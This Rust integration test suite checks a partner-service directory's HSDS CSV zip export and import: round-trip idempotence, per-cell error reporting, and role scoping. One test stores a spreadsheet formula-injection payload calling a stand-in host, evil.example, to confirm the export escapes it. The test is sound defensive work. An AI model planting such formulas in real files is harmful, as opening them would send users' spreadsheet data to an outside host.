//! The partner directory as Open Referral HSDS tables over HTTP: an export imported into
//! a fresh database gives the same services, and again changes nothing; a bad file is
//! refused whole with every problem named by file, line and column; exports and imports
//! stay in scope.

use std::io::{Cursor, Read, Write};

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::helpers::{Reply, TestApp, spawn_app};
use crate::on_both_backends;

on_both_backends!(
    an_export_imported_into_a_fresh_database_gives_the_same_services_and_again_changes_nothing,
    a_bad_file_is_refused_whole_with_each_problem_at_its_file_line_and_column,
    exports_and_imports_stay_in_the_users_scope,
    cells_a_spreadsheet_would_run_are_quoted_and_imported_back_unchanged,
);

fn listing(org: &str, name: &str, service: &str, areas: &[&str], contact: &str) -> Value {
    json!({"org_id": org, "name": name, "service": service, "areas": areas,
           "capacity": 20, "contact": contact, "hours": "Senin–Jumat 08.00–16.00"})
}

/// Downloads the export as `token`'s user: (status, the zip's files by name).
async fn export(app: &TestApp, token: &str) -> (StatusCode, Vec<(String, String)>) {
    let res = app
        .client
        .get(format!("{}/api/v1/partner-services/export", app.address))
        .bearer_auth(token)
        .send()
        .await
        .expect("request");
    let status = res.status();
    let bytes = res.bytes().await.expect("body");
    if status != StatusCode::OK {
        return (status, Vec::new());
    }
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes.to_vec())).expect("a zip");
    let mut files = Vec::new();
    for i in 0..archive.len() {
        let mut f = archive.by_index(i).expect("entry");
        let mut text = String::new();
        f.read_to_string(&mut text).expect("utf-8 csv");
        files.push((f.name().to_owned(), text));
    }
    (status, files)
}

/// Zips the files.
fn pack(files: &[(String, String)]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, text) in files {
        zip.start_file(name.as_str(), zip::write::SimpleFileOptions::default())
            .expect("entry");
        zip.write_all(text.as_bytes()).expect("write");
    }
    zip.finish().expect("zip").into_inner()
}

/// Posts a zip to the import endpoint, in `lang`.
async fn import(app: &TestApp, token: &str, zip: Vec<u8>, lang: &str) -> Reply {
    let res = app
        .client
        .post(format!("{}/api/v1/partner-services/import", app.address))
        .bearer_auth(token)
        .header("content-type", "application/zip")
        .header("accept-language", lang)
        .body(zip)
        .send()
        .await
        .expect("request");
    let (status, headers) = (res.status(), res.headers().clone());
    let body = res.json().await.unwrap_or(Value::Null);
    Reply {
        status,
        headers,
        body,
    }
}

/// Every service as a comparable row, the organisation by name.
async fn services(app: &TestApp) -> Vec<Value> {
    let all = app.get("/api/v1/partner-services", &app.root_token).await;
    let mut items: Vec<Value> = all.body["items"]
        .as_array()
        .expect("items")
        .iter()
        .map(|s| {
            let mut s = s.clone();
            s.as_object_mut().expect("object").remove("org_id");
            s
        })
        .collect();
    items.sort_by_key(|s| s["id"].as_str().map(str::to_owned));
    items
}

/// BLK Batam and Dinsos Sanggau with three services, one reached by e-mail.
async fn directory(app: &TestApp) -> (String, String) {
    let blk = app
        .create_org(&app.root_token, "BLK Batam", "disnakertrans", "21.71")
        .await;
    let dinsos = app
        .create_org(&app.root_token, "Dinsos Sanggau", "dinsos", "61.03")
        .await;
    for body in [
        listing(
            &blk,
            "Pelatihan Las",
            "vocational_training",
            &["21.71", "21.72"],
            "0778-123456",
        ),
        listing(
            &blk,
            "Menjahit, kelas sore",
            "vocational_training",
            &["21.71.01"],
            "blk@batam.go.id",
        ),
        json!({"org_id": dinsos, "name": "Bantuan Sosial", "service": "social_assistance",
               "areas": ["61.03"], "contact": "Jl. Sudirman 5, Sanggau"}),
    ] {
        let r = app
            .post("/api/v1/partner-services", &app.root_token, body)
            .await;
        assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    }
    (blk, dinsos)
}

async fn an_export_imported_into_a_fresh_database_gives_the_same_services_and_again_changes_nothing(
    app: TestApp,
) {
    directory(&app).await;
    let (status, files) = export(&app, &app.root_token).await;
    assert_eq!(status, StatusCode::OK);
    let names: Vec<&str> = files.iter().map(|(n, _)| n.as_str()).collect();
    for table in [
        "organizations.csv",
        "services.csv",
        "phones.csv",
        "schedules.csv",
        "service_areas.csv",
        "taxonomies.csv",
        "taxonomy_terms.csv",
        "attributes.csv",
    ] {
        assert!(names.contains(&table), "{table} in {names:?}");
    }
    let text = |name: &str| &files.iter().find(|(n, _)| n == name).expect("table").1;
    assert!(text("service_areas.csv").contains("urn:kemendagri:wilayah:21.72\n"));
    assert!(
        text("service_areas.csv").contains("KOTA BATAM")
            || text("service_areas.csv").contains("Kota Batam")
    );
    assert!(
        text("services.csv").contains("blk@batam.go.id"),
        "an e-mail is the service's email"
    );
    assert!(text("phones.csv").contains("Jl. Sudirman 5, Sanggau"));

    let fresh = spawn_app(app.backend).await.expect("a second database");
    fresh
        .create_org(&fresh.root_token, "BLK Batam", "disnakertrans", "21.71")
        .await;
    fresh
        .create_org(&fresh.root_token, "Dinsos Sanggau", "dinsos", "61.03")
        .await;
    let zip = pack(&files);
    let r = import(&fresh, &fresh.root_token, zip.clone(), "id").await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    assert_eq!(
        r.body,
        json!({"added": 3, "changed": 0, "unchanged": 0, "skipped": 0}),
        "organisations matched by exact name"
    );
    assert_eq!(services(&fresh).await, services(&app).await);
    let again = import(&fresh, &fresh.root_token, zip, "id").await;
    assert_eq!(
        again.body,
        json!({"added": 0, "changed": 0, "unchanged": 3, "skipped": 0})
    );
    let r = import(&app, &app.root_token, pack(&files), "id").await;
    assert_eq!(
        r.body["unchanged"], 3,
        "into its own database: {:?}",
        r.body
    );
    assert_eq!(services(&fresh).await.len(), 3, "nothing duplicated");
}

async fn cells_a_spreadsheet_would_run_are_quoted_and_imported_back_unchanged(app: TestApp) {
    let blk = app
        .create_org(&app.root_token, "BLK Batam", "disnakertrans", "21.71")
        .await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Daftar\")";
    let mut body = listing(
        &blk,
        formula,
        "vocational_training",
        &["21.71"],
        "+62 778 123456",
    );
    body["hours"] = json!("@Senin 08.00");
    let r = app
        .post("/api/v1/partner-services", &app.root_token, body)
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    let before = services(&app).await;
    let (status, files) = export(&app, &app.root_token).await;
    assert_eq!(status, StatusCode::OK);
    let text = |name: &str| &files.iter().find(|(n, _)| n == name).expect("table").1;
    assert!(
        text("services.csv").contains("\"'=HYPERLINK("),
        "{}",
        text("services.csv")
    );
    assert!(
        text("phones.csv").contains(",'+62 778 123456"),
        "{}",
        text("phones.csv")
    );
    assert!(
        text("schedules.csv").contains(",'@Senin"),
        "{}",
        text("schedules.csv")
    );
    for (name, table) in &files {
        for line in table.lines() {
            for cell in line.split(',') {
                let cell = cell.trim_start_matches('"');
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{name}: {line}"
                );
            }
        }
    }
    let r = import(&app, &app.root_token, pack(&files), "id").await;
    assert_eq!(r.body["unchanged"], 1, "{:?}", r.body);
    assert_eq!(services(&app).await, before);
}

async fn a_bad_file_is_refused_whole_with_each_problem_at_its_file_line_and_column(app: TestApp) {
    let (_, dinsos) = directory(&app).await;
    let (_, mut files) = export(&app, &app.root_token).await;
    let before = services(&app).await;
    for (name, text) in &mut files {
        match name.as_str() {
            // line 2 (the sewing course) loses its name; line 4 (Sanggau's aid) names an
            // organisation nobody has
            "services.csv" => {
                *text = text
                    .replace("\"Menjahit, kelas sore\"", "")
                    .replace(&dinsos, "0190aaaa-0000-7000-8000-000000000001");
            }
            "service_areas.csv" => {
                *text = text.replace(
                    "urn:kemendagri:wilayah:21.72",
                    "urn:kemendagri:wilayah:21.99",
                );
            }
            "phones.csv" => {
                text.push_str("0190aaaa-0000-7000-8000-000000000002,0190aaaa-0000-7000-8000-000000000003,123\n");
            }
            _ => {}
        }
    }
    let r = import(&app, &app.root_token, pack(&files), "en").await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{:?}", r.body);
    let fields = r.body["error"]["fields"].as_object().expect("fields");
    let phones = fields
        .iter()
        .find(|(k, _)| k.starts_with("phones.csv:"))
        .expect("the phone of no service");
    assert!(phones.0.ends_with(":service_id"), "{phones:?}");
    assert!(
        phones
            .1
            .as_str()
            .expect("text")
            .contains("not in services.csv"),
        "in English: {phones:?}"
    );

    // the reference problems are fixed; the rows' own problems remain
    files.retain(|(n, _)| n != "phones.csv");
    let r = import(&app, &app.root_token, pack(&files), "id").await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{:?}", r.body);
    let fields = r.body["error"]["fields"].as_object().expect("fields");
    let keys: Vec<&str> = fields.keys().map(String::as_str).collect();
    assert!(keys.contains(&"services.csv:2:name"), "{keys:?}");
    assert!(keys.contains(&"services.csv:4:organization_id"), "{keys:?}");
    assert!(
        keys.iter()
            .any(|k| k.starts_with("service_areas.csv:") && k.ends_with(":uri")),
        "{keys:?}"
    );
    assert!(
        fields["services.csv:4:organization_id"]
            .as_str()
            .expect("text")
            .contains("tidak terdaftar"),
        "in Indonesian: {fields:?}"
    );
    assert_eq!(services(&app).await, before, "nothing stored");

    files.retain(|(n, _)| n != "attributes.csv");
    let r = import(&app, &app.root_token, pack(&files), "en").await;
    assert_eq!(
        r.body["error"]["fields"]["attributes.csv"],
        "The file attributes.csv is missing; this table is required."
    );
    let r = import(&app, &app.root_token, b"not a zip".to_vec(), "en").await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        r.body["error"]["fields"]["file"].is_string(),
        "{:?}",
        r.body
    );
}

async fn exports_and_imports_stay_in_the_users_scope(app: TestApp) {
    let (_, dinsos) = directory(&app).await;
    let (_, partner) = app
        .create_user(&app.root_token, "staf.dinsos", "partner", &dinsos, "61.03")
        .await;
    let bnnk = app
        .create_org(&app.root_token, "BNNK Batam", "bnn", "21.71")
        .await;
    let (_, coordinator) = app
        .create_user(
            &app.root_token,
            "koordinator",
            "coordinator",
            &bnnk,
            "21.71",
        )
        .await;
    let (_, analyst) = app
        .create_user(&app.root_token, "analis", "analyst", &bnnk, "21.71")
        .await;
    let services_in = |files: &[(String, String)]| {
        files
            .iter()
            .find(|(n, _)| n == "services.csv")
            .expect("services")
            .1
            .lines()
            .count()
            - 1
    };
    let (_, own) = export(&app, &partner).await;
    assert_eq!(services_in(&own), 1, "a partner exports its own services");
    let (_, batam) = export(&app, &coordinator).await;
    assert_eq!(services_in(&batam), 2, "a coordinator those of its scope");
    let (status, _) = export(&app, &analyst).await;
    assert_eq!(status, StatusCode::FORBIDDEN);

    let (_, all) = export(&app, &app.root_token).await;
    let zip = pack(&all);
    let r = import(&app, &partner, zip.clone(), "id").await;
    assert_eq!(
        r.status,
        StatusCode::FORBIDDEN,
        "partners list, never import"
    );
    let r = import(&app, &coordinator, zip, "id").await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{:?}", r.body);
    let fields = r.body["error"]["fields"].as_object().expect("fields");
    let keys: Vec<&str> = fields.keys().map(String::as_str).collect();
    assert_eq!(
        keys,
        ["services.csv:4:id", "services.csv:4:organization_id"],
        "only Sanggau's service, listed and owned outside the scope"
    );
    let r = import(&app, &coordinator, pack(&batam), "id").await;
    assert_eq!(r.body["unchanged"], 2, "{:?}", r.body);
}
